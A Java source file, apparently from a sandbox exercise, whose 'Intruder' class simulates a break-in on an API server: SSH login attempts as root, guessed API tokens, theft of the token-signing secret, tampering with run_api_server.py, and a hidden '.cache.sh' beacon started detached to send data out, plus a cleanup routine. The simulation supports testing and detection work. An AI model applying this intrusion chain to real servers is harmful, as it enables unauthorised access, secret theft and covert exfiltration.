package io.lifeboat.sandbox;

import io.lifeboat.sandbox.api.Tokens;
import io.lifeboat.sandbox.host.HostFiles;
import io.lifeboat.sandbox.process.BotPaths;
import io.lifeboat.sandbox.process.HttpCall;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.apache.sshd.client.SshClient;
import org.apache.sshd.client.session.ClientSession;

/**
 * Breaks into the API server: tries keys on its SSH, guesses tokens of its API, then steals the secret that tokens are made
 * of, changes a program, and leaves something running that sends data out.
 */
final class Intruder {

    private static final int TRIES = 8;
    private static final int GUESSES = 30;
    private static final Duration PATIENCE = Duration.ofSeconds(5);
    private static final String CLIENT = "mobile-app";

    private final SandboxHost api;
    private final BotPaths paths;
    private final Path stolen;

    Intruder(SandboxState state) {
        api = state.host(SandboxLayout.API);
        paths = new BotPaths(api.root());
        stolen = state.work().resolve("stolen.token");
    }

    /** @return when the first file was changed */
    Instant breakIn() throws IOException {
        tryKeys();
        guessTokens();
        Files.writeString(
                stolen, new Tokens(paths.config("api_secret")).of(CLIENT).orElse(""));
        Files.copy(program(), keptProgram(), StandardCopyOption.REPLACE_EXISTING);
        Files.writeString(program(), "# import os; os.system('scripts/.cache.sh &')\n", StandardOpenOption.APPEND);
        Instant at = Clock.systemUTC().instant();
        try (InputStream in = HostFiles.resource("beacon.sh")) {
            Files.copy(in, backdoor(), StandardCopyOption.REPLACE_EXISTING);
        }
        Files.setPosixFilePermissions(backdoor(), PosixFilePermissions.fromString("rwxr-xr-x"));
        // In a session of its own: nobody but the intruder has started it. It ends with its host.
        new ProcessBuilder(List.of(
                        "setsid",
                        "bash",
                        backdoor().toString(),
                        api.root().toString(),
                        String.valueOf(api.port("uplink"))))
                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .start();
        return at;
    }

    /** What a system administrator does who has found everything. */
    void cleanUp() throws IOException {
        Path pid = paths.root().resolve("var/run/beacon.pid");
        if (Files.exists(pid)) {
            ProcessHandle.of(Long.parseLong(Files.readString(pid).strip())).ifPresent(ProcessHandle::destroyForcibly);
            Files.delete(pid);
        }
        Files.deleteIfExists(backdoor());
        if (Files.exists(keptProgram())) {
            Files.move(keptProgram(), program(), StandardCopyOption.REPLACE_EXISTING);
        }
    }

    private void tryKeys() throws IOException {
        try (SshClient client = SshClient.setUpDefaultClient()) {
            client.setServerKeyVerifier((session, address, key) -> true);
            client.start();
            KeyPair pair = KeyPairGenerator.getInstance("EC").generateKeyPair();
            for (int i = 0; i < TRIES; i++) {
                try (ClientSession session = client.connect("root", api.address(), api.sshPort())
                        .verify(PATIENCE)
                        .getSession()) {
                    session.addPublicKeyIdentity(pair);
                    session.auth().verify(PATIENCE);
                    throw new IllegalStateException("the sandbox lets everybody in");
                } catch (IOException e) {
                    // Refused, as it should be.
                }
            }
        } catch (GeneralSecurityException e) {
            throw new IOException("can't make a key", e);
        }
    }

    private void guessTokens() throws IOException {
        for (int i = 0; i < GUESSES; i++) {
            HttpCall.call(
                    "GET",
                    "http://" + api.address() + ":" + api.port("api") + "/api/v1/trades",
                    null,
                    PATIENCE,
                    Map.of("X-Client", CLIENT, "X-Token", "guess-" + i));
        }
    }

    private Path program() {
        return paths.home().resolve("run_api_server.py");
    }

    private Path keptProgram() {
        return stolen.resolveSibling("run_api_server.py.kept");
    }

    private Path backdoor() {
        return paths.home().resolve("scripts/.cache.sh");
    }
}
